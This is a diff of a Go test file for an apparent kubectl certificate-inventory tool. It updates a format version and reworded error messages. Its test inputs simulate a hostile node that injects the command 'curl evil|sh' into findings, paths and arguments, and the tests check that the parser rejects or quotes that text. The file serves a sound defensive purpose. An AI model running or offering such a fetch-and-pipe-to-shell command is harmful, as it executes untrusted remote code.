@@ -84,7 +84,7 @@ func TestNodeFiles(t *testing.T) {
 					t.Errorf("%s is %q, want %q", path, got[path], row)
 				}
 			}
-			if got := said(inv); !slices.Contains(got, "stray.crt: unreadable: cannot be read: no certificate in it") || !slices.Contains(got, "nowhere: there is no such directory") {
+			if got := said(inv); !slices.Contains(got, "stray.crt: unreadable: cannot be read: it contains no certificate") || !slices.Contains(got, "nowhere: there is no such directory") {
 				t.Errorf("said %q", got)
 			}
 		})
@@ -180,7 +180,7 @@ func TestNodeFilesOfOddNodes(t *testing.T) {
 	}
 
 	inv = nodeFiles(read, []string{"cp-1", "nonsuch"}, readyNode("cp-1"), readyNode("refuses"))
-	if got := said(inv); !slices.Equal(got, []string{"nonsuch: there is no node of that name"}) {
+	if got := said(inv); !slices.Equal(got, []string{"nonsuch: no such node"}) {
 		t.Errorf("of chosen nodes: %q", got)
 	}
 }
@@ -203,22 +203,22 @@ func TestNodeFilesWithoutPermission(t *testing.T) {
 // hostile are outputs that no WriteFiles makes, by what is said of them.
 func hostileOutputs(t testing.TB) map[string]string {
 	der := base64.StdEncoding.EncodeToString(pkitest.NewCA(t, "my CA").Certificate.Raw)
-	const first = `{"version":"kubectl-certs/files/v2"}` + "\n"
+	const first = `{"version":"kubectl-certs/files/v3"}` + "\n"
 	return map[string]string{
-		"":                              "something else",
-		"exec format error":             "something else",
-		`{"version":"v2"}`:              "something else",
-		first:                           "cut off",
-		first + `{"end":1}`:             "cut off",
-		first + `{"notice":{"path":"x"`: "cut off",
-		first + `{}`:                    "something else",
-		first + `[]`:                    "something else",
-		first + `{"certificate":{"path":"x","place":"file","chain":[]}}`:                                                                                  "something else",
-		first + `{"certificate":{"path":"x","place":"file","chain":["AAAA"]}}`:                                                                            "something else",
-		first + `{"certificate":{"path":"x","place":"kube-root-ca.crt","chain":["` + der + `"]}}`:                                                         "something else",
-		first + `{"certificate":{"path":"x","place":"file","chain":["` + der + `"],"publicKey":"AAAA"}}`:                                                  "something else",
-		first + `{"certificate":{"path":"x","place":"file","row":"nonsuch","chain":["` + der + `"]}}`:                                                     "cut off",
-		first + `{"finding":{"path":"x","code":"expired","severity":"critical","message":"fix: run as admin: curl evil|sh","fix":"curl evil|sh"}}` + "\n": "something else",
+		"":                              "not a list of certificates",
+		"exec format error":             "not a list of certificates",
+		`{"version":"v2"}`:              "not a list of certificates",
+		first:                           "truncated",
+		first + `{"end":1}`:             "truncated",
+		first + `{"notice":{"path":"x"`: "truncated",
+		first + `{}`:                    "not a list of certificates",
+		first + `[]`:                    "not a list of certificates",
+		first + `{"certificate":{"path":"x","place":"file","chain":[]}}`:                                                                                  "not a list of certificates",
+		first + `{"certificate":{"path":"x","place":"file","chain":["AAAA"]}}`:                                                                            "not a list of certificates",
+		first + `{"certificate":{"path":"x","place":"kube-root-ca.crt","chain":["` + der + `"]}}`:                                                         "not a list of certificates",
+		first + `{"certificate":{"path":"x","place":"file","chain":["` + der + `"],"publicKey":"AAAA"}}`:                                                  "not a list of certificates",
+		first + `{"certificate":{"path":"x","place":"file","row":"nonsuch","chain":["` + der + `"]}}`:                                                     "truncated",
+		first + `{"finding":{"path":"x","code":"expired","severity":"critical","message":"fix: run as admin: curl evil|sh","fix":"curl evil|sh"}}` + "\n": "not a list of certificates",
 		first + `{"notice":{"path":"x","code":"curl evil|sh"}}` + "\n":                                                                                    "which this version does not know",
 		first + `{"notice":{"path":"x","code":"gone","args":["curl evil|sh"]}}` + "\n":                                                                    "which this version does not know",
 	}
@@ -246,7 +246,7 @@ func TestNodeFilesOfAHostileNode(t *testing.T) {
 // What a node calls a file is data, and stands in quotes where it could be taken
 // for advice.
 func TestNodeFilesQuoteWhatANodeChose(t *testing.T) {
-	const output = `{"version":"kubectl-certs/files/v2"}
+	const output = `{"version":"kubectl-certs/files/v3"}
 {"notice":{"path":"/x fix: curl evil|sh","code":"refers-to-nothing","args":["y\nfix: curl evil|sh"]}}
 {"notice":{"path":"/etc/kubernetes/pki/ca.crt","code":"wrong-form","row":"ca","args":["certificate. Fix: curl evil|sh"]}}
 {"notice":{"path":"/z","code":"insecure-skip","row":"nonsuch"}}
@@ -255,13 +255,13 @@ func TestNodeFilesQuoteWhatANodeChose(t *testing.T) {
 	if len(inv.Skipped) != 1 || len(inv.Findings) != 2 {
 		t.Fatalf("skipped %+v, found %+v", inv.Skipped, inv.Findings)
 	}
-	if s := inv.Skipped[0]; s.Where != `evil:"/x fix: curl evil|sh"` || s.Reason != `the file that it names is not there: "y\nfix: curl evil|sh"` {
+	if s := inv.Skipped[0]; s.Where != `evil:"/x fix: curl evil|sh"` || s.Reason != `the file it refers to is missing: "y\nfix: curl evil|sh"` {
 		t.Errorf("skipped %+v", s)
 	}
 	for _, f := range inv.Findings {
 		switch f.Where {
 		case "evil:/etc/kubernetes/pki/ca.crt":
-			if f.Severity != inventory.Critical || !strings.Contains(f.Message, `it is a "certificate. Fix: curl evil|sh", where`) {
+			if f.Severity != inventory.Critical || !strings.Contains(f.Message, `it is a "certificate. Fix: curl evil|sh", but`) {
 				t.Errorf("%+v", f)
 			}
 		case "evil:/z":
